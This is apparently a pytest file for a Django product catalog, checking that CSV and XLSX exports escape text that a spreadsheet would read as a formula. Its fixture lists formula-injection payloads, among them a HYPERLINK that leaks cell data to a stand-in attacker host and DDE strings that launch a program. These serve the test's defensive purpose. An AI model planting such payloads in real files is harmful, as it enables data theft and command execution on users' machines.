"""Exports a spreadsheet opens without running anything (CSV or formula injection): text
that starts like a formula is written as text, and such a file imports back unchanged."""

import io

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile

from catalog.tests.factories import ProductFactory
from catalog.tests.test_admin_import_export import CSV_FORMAT, XLSX_FORMAT, export, preview

pytestmark = pytest.mark.django_db

# Names as staff (or an import) may have saved them, each read by a spreadsheet as a formula.
FORMULAE = {
    "EQ-1": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "EQ-2": "==1+1",
    "PLUS-1": "+1+cmd|' /C calc'!A0",
    "MINUS-1": "-2+3",
    "AT-1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "TAB-1": "\t=1+1",
}


@pytest.fixture
def products_named_like_formulae():
    for sku, name in FORMULAE.items():
        ProductFactory(sku=sku, name=name, description=name)
    ProductFactory(sku="PLAIN-1", name="Kettle = 1.7 l", description="")


def test_a_csv_export_writes_formulae_as_text(admin_browser, products_named_like_formulae):
    exported = tablib.Dataset().load(export(admin_browser, CSV_FORMAT).decode(), format="csv")

    rows = {row["sku"]: row for row in exported.dict}
    for sku, name in FORMULAE.items():
        assert rows[sku]["name"] == rows[sku]["description"] == f"'{name}"
    assert rows["PLAIN-1"]["name"] == "Kettle = 1.7 l"


def test_an_xlsx_export_has_no_formula_cell(admin_browser, products_named_like_formulae):
    sheet = openpyxl.load_workbook(io.BytesIO(export(admin_browser, XLSX_FORMAT))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}  # no "f", no formula
    names = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}
    assert names == {
        **{sku: f"'{name}" for sku, name in FORMULAE.items()},
        "PLAIN-1": "Kettle = 1.7 l",
    }


@pytest.mark.parametrize(
    ("file_format", "name"), [(CSV_FORMAT, "catalog.csv"), (XLSX_FORMAT, "catalog.xlsx")]
)
def test_an_exported_file_imports_back_unchanged(
    admin_browser, products_named_like_formulae, file_format, name
):
    content = export(admin_browser, file_format)

    previewed = preview(admin_browser, SimpleUploadedFile(name, content), file_format)

    result = previewed.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert {row.import_type for row in result.rows} == {"skip"}
